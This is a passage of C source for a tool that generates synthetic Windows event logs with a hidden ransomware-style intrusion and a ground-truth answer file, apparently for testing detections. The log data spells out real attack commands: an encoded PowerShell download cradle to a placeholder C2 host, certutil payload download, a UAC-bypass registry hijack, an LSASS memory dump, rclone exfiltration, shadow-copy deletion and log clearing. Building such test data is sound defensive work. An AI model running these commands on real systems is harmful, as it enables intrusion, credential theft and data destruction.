                                         "/wp-login.php", "/cgi-bin/test.cgi",
                                         "/owa/",         "/robots.txt"};
    for (int i = 0; i < 30; i++)
        web_request(t + i * 700, web, SCANNER_IP, i % 3 ? "GET" : "HEAD",
                    PICK(probes), "-", i % 4 ? 404 : 200,
                    "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                    "https://nmap.org/book/nse.html)");

    /* Initial access: a macro document arrives by mail on WS03. */
    user_session(ws3, victim, &ex);
    t = t0;
    add_step(t, ws3->name, victim_acct, "initial-access", "T1566.001",
             "Macro-Enabled Office Attachment Saved From Outlook");
    proc_create(
        t - 30 * MIN_MS, &ex, &outlook,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
        "Medium");
    snprintf(path, sizeof path,
             "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
             "Content.Outlook\\X8Q1P0LM\\Invoice_November_2026.docm",
             victim);
    file_create(t, &outlook, path);

    /* One process creation (Word starting an encoded PowerShell cradle)
     * raises three steps; the first two share the third's events. */
    t += 50 * 1000;
    int office_step =
        add_step(t, ws3->name, victim_acct, "initial-access", "T1566.001",
                 "Office Application Spawns Script Interpreter");
    snprintf(
        cmd, sizeof cmd,
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" "
        "/n \"%s\" /o \"\"",
        path);
    proc_create(
        t, &outlook, &word,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", cmd,
        "Medium");
    int encoded_step =
        add_step(t + 9000, ws3->name, victim_acct, "execution", "T1059.001",
                 "PowerShell Started With Encoded Command");
    int cradle_step =
        add_step(t + 9000, ws3->name, victim_acct, "execution", "T1059.001",
                 "Encoded PowerShell Download Cradle");
    steps[office_step].share = cradle_step;
    steps[encoded_step].share = cradle_step;
    encode_ps("IEX (New-Object Net.WebClient).DownloadString('http://" C2_NAME
              "/a.ps1')",
              enc, sizeof enc);
    snprintf(cmd, sizeof cmd, "powershell.exe -NoP -W Hidden -Enc %s", enc);
    proc_create(
        t + 9000, &word, &ps,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd,
        "Medium");

    /* Command and control: the cradle resolves and contacts the C2. */
    t += 12000;
    add_step(t, ws3->name, victim_acct, "command-and-control", "T1568",
             "DNS Query For Dynamic DNS Or Tunnelling Service");
    dns_query(t, &ps, C2_NAME, C2_IP);
    add_step(t + 400, ws3->name, victim_acct, "command-and-control",
             "T1071.001",
             "Script Host Or Rundll32 Connects To Internet Address");
    net_connect(t + 400, &ps, C2_IP, 443, C2_NAME);

    /* Resource development: tools pulled down next to the implant. */
    t = t0 + 3 * MIN_MS;
    add_step(t, ws3->name, victim_acct, "command-and-control", "T1105",
             "Certutil Used To Download A File");
    proc_create(t, &ps, &c, "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -split -f http://" C2_IP
                "/upd.bin C:\\Users\\Public\\svchost.exe",
                "Medium");
    file_create(t + 2100, &c, "C:\\Users\\Public\\svchost.exe");
    add_step(t + 40000, ws3->name, victim_acct, "resource-development",
             "T1588.002", "Offensive Security Tool Written To Disk");
    file_create(t + 40000, &ps, "C:\\Users\\Public\\Music\\Rubeus.exe");

    /* Persistence: a Run key for the implant. */
    t = t0 + 6 * MIN_MS;
    add_step(t, ws3->name, victim_acct, "persistence", "T1547.001",
             "Run Key Points To User-Writable Folder");
    snprintf(key, sizeof key,
             "HKU\\S-1-5-21-3623811015-3361044348-30300820-1107\\Software\\"
             "Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate");
    reg_set(t, &ps, key, "C:\\Users\\Public\\svchost.exe");

    /* Stealth: the implant, named like svchost, runs from Users\Public. */
    t = t0 + 8 * MIN_MS;
    add_step(t, ws3->name, victim_acct, "stealth", "T1036.005",
             "Process Named Like A System Binary Outside System Folders");
    proc_create(t, &ps, &implant, "C:\\Users\\Public\\svchost.exe",
                "C:\\Users\\Public\\svchost.exe -k netsvcs", "Medium");

    /* Privilege escalation: fodhelper UAC bypass, then a SYSTEM task. */
    t = t0 + 12 * MIN_MS;
    add_step(t, ws3->name, victim_acct, "privilege-escalation", "T1548.002",
             "UAC Bypass Through ms-settings Handler Hijack");
    snprintf(key, sizeof key,
             "HKU\\S-1-5-21-3623811015-3361044348-30300820-1107\\Software\\"
             "Classes\\ms-settings\\shell\\open\\command\\(Default)");
    reg_set(t, &implant, key, "C:\\Users\\Public\\svchost.exe -k elevate");
    snprintf(key, sizeof key,
             "HKU\\S-1-5-21-3623811015-3361044348-30300820-1107\\Software\\"
             "Classes\\ms-settings\\shell\\open\\command\\DelegateExecute");
    reg_set(t + 30, &implant, key, "");
    proc_create(t + 900, &implant, &c, "C:\\Windows\\System32\\fodhelper.exe",
                "\"C:\\Windows\\system32\\fodhelper.exe\"", "High");

    t = t0 + 14 * MIN_MS;
    add_step(t, ws3->name, victim_acct, "persistence", "T1053.005",
             "Scheduled Task Created To Run As SYSTEM From User Folder");
    proc_create(t, &implant, &c, "C:\\Windows\\System32\\schtasks.exe",
                "schtasks.exe /create /tn \"Microsoft\\Windows\\OneDriveSync\" "
                "/tr \"C:\\Users\\Public\\svchost.exe -k sync\" /sc onlogon "
                "/ru SYSTEM /f",
                "High");

    t = t0 + 16 * MIN_MS;
    add_step(t, ws3->name, "NT AUTHORITY\\SYSTEM", "privilege-escalation",
             "T1068", "SYSTEM Shell Spawned By Binary From User Folder");
    system_proc(ws3, &sys, "C:\\Windows\\System32\\svchost.exe");
    proc_create(t - 2000, &sys, &task_implant, "C:\\Users\\Public\\svchost.exe",
                "C:\\Users\\Public\\svchost.exe -k sync", "System");
    proc_create(t, &task_implant, &shell, "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c \"C:\\Windows\\Temp\\s.bat\"", "System");

    /* Defence impairment: switch Defender off. */
    t = t0 + 18 * MIN_MS;
    add_step(t, ws3->name, "NT AUTHORITY\\SYSTEM", "defense-impairment",
             "T1562.001",
             "Defender Real-Time Protection Disabled From Command Line");
    proc_create(
        t, &shell, &c,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring "
        "$true; Set-MpPreference -ExclusionPath C:\\Users\\Public\"",
        "System");

    /* Credential access: read LSASS, twice over. */
    t = t0 + 22 * MIN_MS;
    add_step(t, ws3->name, "NT AUTHORITY\\SYSTEM", "credential-access",
             "T1003.001",
             "LSASS Opened With Memory-Read Rights By Unusual Process");
    system_proc(ws3, &lsass, "C:\\Windows\\system32\\lsass.exe");
    proc_access(t, &task_implant, &lsass, "0x1010");
    add_step(t + 60000, ws3->name, "NT AUTHORITY\\SYSTEM", "credential-access",
             "T1003.001", "LSASS Dump Through comsvcs MiniDump");
    snprintf(cmd, sizeof cmd,
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %u "
             "C:\\Windows\\Temp\\d.bin full",
             lsass.pid);
    proc_create(t + 60000, &shell, &c, "C:\\Windows\\System32\\rundll32.exe",
                cmd, "System");

    /* Discovery as the user, from a shell under the implant. */
    t = t0 + 28 * MIN_MS;
    proc_create(t - 5000, &implant, &shell, "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe", "Medium");
    add_step(t, ws3->name, victim_acct, "discovery", "T1033",
             "Whoami Lists Privileges Or Groups");
    proc_create(t, &shell, &c, "C:\\Windows\\System32\\whoami.exe",
                "whoami /all", "Medium");
    add_step(t + 20000, ws3->name, victim_acct, "discovery", "T1069.002",
             "Domain Privileged Group Membership Enumerated With Net");
    proc_create(t + 20000, &shell, &c, "C:\\Windows\\System32\\net.exe",
                "net group \"Domain Admins\" /domain", "Medium");
    add_step(t + 45000, ws3->name, victim_acct, "discovery", "T1482",
             "Nltest Domain Controller Or Trust Discovery");
    proc_create(t + 45000, &shell, &c, "C:\\Windows\\System32\\nltest.exe",
                "nltest /dclist:acme.local", "Medium");
    add_step(t + 70000, ws3->name, victim_acct, "discovery", "T1082",
             "One User Runs Many Different Discovery Tools On One Host");
    proc_create(t + 70000, &shell, &c, "C:\\Windows\\System32\\systeminfo.exe",
                "systeminfo", "Medium");
    proc_create(t + 80000, &shell, &c, "C:\\Windows\\System32\\ipconfig.exe",
                "ipconfig /all", "Medium");
    proc_create(t + 95000, &shell, &c, "C:\\Windows\\System32\\tasklist.exe",
                "tasklist /v", "Medium");

    /* Kerberoasting from WS03, seen on the domain controller. */
    t = t0 + 35 * MIN_MS;
    add_step(t, dc->name, victim_acct, "credential-access", "T1558.003",
             "Kerberos Service Ticket Requested With RC4 Encryption");
    tgs_request(t, dc, victim, "svc_sql", "0x17", ws3->ip);

    /* Password guessing against the file server's administrator. */
    t = t0 + 40 * MIN_MS;
    add_step(
        t, srv->name, "administrator", "credential-access", "T1110.001",
        "Brute Force - Many Failed Logons For One Account From One Address");
    for (int i = 0; i < 24; i++)
        logon(t + i * 5000, srv, 0, "administrator", 3, ws3->ip, "WS03", "0x0");

    /* Lateral movement to WS07 over RDP with the stolen admin account. */
    t = t0 + 50 * MIN_MS;
    add_step(t, ws7->name, "ACME\\" ADMIN_USER, "lateral-movement", "T1021.001",
             "RDP Logon From A Workstation Outside The Jump-Host Range");
    logon(t, ws7, 1, ADMIN_USER, 10, ws3->ip, "WS03", "0x8a31f2");
    proc_init(&ex7, ws7, "C:\\Windows\\explorer.exe", "ACME\\" ADMIN_USER,
              "0x8a31f2");
    proc_create(t + 30000, &ex7, &shell7, "C:\\Windows\\System32\\cmd.exe",
                "\"C:\\Windows\\system32\\cmd.exe\"", "High");
    add_step(t + 60000, ws7->name, "ACME\\" ADMIN_USER, "discovery", "T1033",
             "Whoami Lists Privileges Or Groups");
    proc_create(t + 60000, &shell7, &c, "C:\\Windows\\System32\\whoami.exe",
                "whoami /priv", "High");

    /* Lateral movement to SRV-FILE01: wmiexec, then PsExec. */
    t = t0 + 65 * MIN_MS;
    logon(t - 2000, srv, 1, ADMIN_USER, 3, ws7->ip, "WS07", "0x9b7720");
    add_step(t, srv->name, "ACME\\" ADMIN_USER, "lateral-movement", "T1021.002",
             "Remote WMI Command With Output Redirected To ADMIN$");
    system_proc(srv, &wmi, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
    snprintf(wmi.cmdline, sizeof wmi.cmdline,
             "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
    snprintf(wmi.user, sizeof wmi.user, "ACME\\%s", ADMIN_USER);
    snprintf(wmi.logon_id, sizeof wmi.logon_id, "0x9b7720");
    proc_create(
        t, &wmi, &srvshell, "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1793613000.41 2>&1",
        "High");
    add_step(t + 3 * MIN_MS, srv->name, "ACME\\" ADMIN_USER, "lateral-movement",
             "T1021.002", "PsExec-Style Service Installed");
    service_installed(t + 3 * MIN_MS, srv, "PSEXESVC",
                      "%SystemRoot%\\PSEXESVC.exe");
    add_step(t + 5 * MIN_MS, srv->name, "ACME\\" ADMIN_USER, "persistence",
             "T1543.003",
             "Service Installed With Binary In User-Writable Folder");
    service_installed(t + 5 * MIN_MS, srv, "OneDriveSyncSvc",
                      "C:\\ProgramData\\svchost.exe -k svc");

    /* Collection: stage the finance share in an encrypted archive. */
    t = t0 + 80 * MIN_MS;
    add_step(t, srv->name, "ACME\\" ADMIN_USER, "collection", "T1560.001",
             "Password-Protected Archive Of User Or Share Data");
    proc_create(t, &srvshell, &c, "C:\\ProgramData\\7za.exe",
                "7za.exe a -t7z -pInfected2026! -mhe=on C:\\ProgramData\\f.7z "
                "D:\\Shares\\Finance\\*",
                "High");

    /* Exfiltration with rclone to MEGA. */
    t = t0 + 90 * MIN_MS;
    add_step(t, srv->name, "ACME\\" ADMIN_USER, "resource-development",
             "T1588.002", "Offensive Security Tool Written To Disk");
    file_create(t, &srvshell, "C:\\ProgramData\\rclone.exe");
    add_step(t + 2 * MIN_MS, srv->name, "ACME\\" ADMIN_USER, "exfiltration",
             "T1567.002", "Rclone Copies Data To Cloud Storage");
    proc_create(t + 2 * MIN_MS, &srvshell, &c, "C:\\ProgramData\\rclone.exe",
                "rclone.exe copy C:\\ProgramData\\f.7z mega:backup --config "
                "C:\\ProgramData\\rc.conf -q",
                "High");
    net_connect(t + 2 * MIN_MS + 3000, &c, "31.216.148.9", 443,
                "g.api.mega.co.nz");

    /* C2 from the file server. */
    t = t0 + 100 * MIN_MS;
    add_step(t, srv->name, "ACME\\" ADMIN_USER, "command-and-control",
             "T1071.001",
             "Script Host Or Rundll32 Connects To Internet Address");
    proc_create(
        t - 1000, &srvshell, &c,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -f C:\\ProgramData\\b.ps1", "High");
    net_connect(t, &c, C2_IP, 443, NULL);

    /* Impact: no way back, notes everywhere, logs wiped. */
    t = t0 + 110 * MIN_MS;
    add_step(t, srv->name, "ACME\\" ADMIN_USER, "impact", "T1490",
             "Volume Shadow Copies Deleted Or Recovery Disabled");
    proc_create(t, &srvshell, &c, "C:\\Windows\\System32\\vssadmin.exe",
                "vssadmin.exe delete shadows /all /quiet", "High");
    proc_create(t + 4000, &srvshell, &c, "C:\\Windows\\System32\\bcdedit.exe",
                "bcdedit.exe /set {default} recoveryenabled no", "High");
    add_step(t + MIN_MS, srv->name, "ACME\\" ADMIN_USER, "impact", "T1486",
             "Ransom Note Written Into Many Folders");
    static const char *const dirs[] = {"D:\\Shares\\Finance", "D:\\Shares\\HR",
                                       "D:\\Shares\\Sales",
                                       "C:\\Users\\Public"};
    proc_init(&c, srv, "C:\\ProgramData\\svchost.exe", "NT AUTHORITY\\SYSTEM",
              "0x3e7");
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        snprintf(path, sizeof path, "%s\\README_RESTORE_FILES.txt", dirs[i]);
        file_create(t + MIN_MS + (int64_t)i * 800, &c, path);
    }
    add_step(t + 5 * MIN_MS, srv->name, "ACME\\" ADMIN_USER, "stealth",
             "T1070.001", "Security Audit Log Cleared");
    begin(t + 5 * MIN_MS, "Microsoft-Windows-Eventlog", "Security", srv->name,
          1102);
    field("SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-500");
    field("SubjectUserName", ADMIN_USER);
    field("SubjectDomainName", "ACME");
    field("SubjectLogonId", "0x9b7720");
    emit(t + 5 * MIN_MS, CH_SECURITY);
    current_step = -1;
}

/* ------------------------------------------------------------------ */

static int cmp_events(const void *a, const void *b) {
    const struct event *x = a, *y = b;
    int64_t bx = x->time_ms / BLOCK_MS, by = y->time_ms / BLOCK_MS;
    if (bx != by) return bx < by ? -1 : 1;
    if (x->chan != y->chan) return x->chan < y->chan ? -1 : 1;
    if (x->time_ms != y->time_ms) return x->time_ms < y->time_ms ? -1 : 1;
    return x->seq < y->seq ? -1 : (x->seq > y->seq);
}

static int parse_start(const char *s, int64_t *out) {
    struct tm tm = {0};
    if (sscanf(s, "%4d-%2d-%2dT%2d:%2d:%2d", &tm.tm_year, &tm.tm_mon,
               &tm.tm_mday, &tm.tm_hour, &tm.tm_min, &tm.tm_sec) != 6)
        return -1;
    tm.tm_year -= 1900;
    tm.tm_mon -= 1;
    *out = (int64_t)timegm(&tm) * 1000;
    return 0;
}

static void usage(FILE *f) {
    fputs("usage: gen_scenario [--seed N] [--events N] [--hosts N]\n"
          "                    [--start 2026-11-02T08:00:00Z] [--truth FILE]\n"
          "Writes a deterministic scenario (background activity with one\n"
          "hidden intrusion) as JSON lines to standard output; --truth writes\n"
          "the attack steps as CSV.  Defaults: seed 1, 20000 events, 12 hosts\n"
          "(at least 11: DC, file server, web server, jump host, 7+ PCs).\n",
          f);
}

int main(int argc, char **argv) {
    uint64_t seed = 1;
    long n_background = 20000;
    int host_count = 12;
    int64_t start_ms;
    const char *truth_path = NULL;
    FILE *truth = NULL;
    int rc = 1;

    parse_start("2026-11-02T08:00:00Z", &start_ms);
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--help") == 0 || strcmp(a, "-h") == 0) {
            usage(stdout);
            return 0;
        }
        if (!v) {
            usage(stderr);
            return 2;
        }
        if (strcmp(a, "--seed") == 0)
            seed = strtoull(v, NULL, 10);
        else if (strcmp(a, "--events") == 0)
            n_background = strtol(v, NULL, 10);
        else if (strcmp(a, "--hosts") == 0)
            host_count = atoi(v);
        else if (strcmp(a, "--start") == 0) {
            if (parse_start(v, &start_ms) != 0) {
                fprintf(stderr,
                        "gen_scenario: --start wants "
                        "YYYY-MM-DDTHH:MM:SSZ, got '%s'\n",
                        v);
                return 2;
            }
        } else if (strcmp(a, "--truth") == 0)
            truth_path = v;
        else {
            usage(stderr);
            return 2;
        }
        i++;
    }
    if (host_count < H_FIRST_WS + 7 || host_count > 250 || n_background < 0) {
        fprintf(stderr, "gen_scenario: --hosts must be 11..250 (the attack "
                        "uses WS03 and WS07) and --events not negative\n");
        return 2;
    }
    rng_state = seed;
    make_hosts(host_count);

    for (long i = 0; i < n_background; i++)
        background_one(start_ms + (int64_t)(rnd() % (uint64_t)DAY_SPAN_MS));
    attack(start_ms + 2 * 60 * MIN_MS);

    qsort(events, n_events, sizeof *events, cmp_events);

    /* lines[s] collects the output line numbers of step s. */
    struct buf *lines = calloc((size_t)n_steps + 1, sizeof *lines);
    if (!lines) die("out of memory");
    for (size_t i = 0; i < n_events; i++) {
        fputs(events[i].line, stdout);
        fputc('\n', stdout);
        if (events[i].step >= 0) {
            char num[24];
            struct buf *b = &lines[events[i].step];
            snprintf(num, sizeof num, "%s%zu", b->len ? ";" : "", i + 1);
            buf_adds(b, num);
        }
    }
    if (fflush(stdout) != 0) goto done;
    if (truth_path) {
        truth = fopen(truth_path, "w");
        if (!truth) {
            fprintf(stderr, "gen_scenario: cannot write %s\n", truth_path);
            goto done;
        }
        fputs("time,host,user,tactic,technique,rule_title,lines\n", truth);
        for (int s = 0; s < n_steps; s++) {
            char ts[80];
            const struct buf *own = &lines[s];
            const struct buf *shared =
                steps[s].share >= 0 ? &lines[steps[s].share] : NULL;
            format_time(steps[s].time_ms, ts, sizeof ts, 'T', 1);
            fprintf(truth, "%s,%s,%s,%s,%s,%s,%s%s%s\n", ts, steps[s].host,
                    steps[s].user, steps[s].tactic, steps[s].technique,
                    steps[s].rule_title, own->len ? own->p : "",
                    own->len && shared && shared->len ? ";" : "",
                    shared && shared->len ? shared->p : "");
        }
        if (fclose(truth) != 0) {
            fprintf(stderr, "gen_scenario: error writing %s\n", truth_path);
            goto done;
        }
    }
    rc = 0;
done:
    for (size_t i = 0; i < n_events; i++) free(events[i].line);
    free(events);
    for (int s = 0; s <= n_steps; s++) free(lines[s].p);
    free(lines);
    free(hosts);
    free(line.p);
    return rc;
}
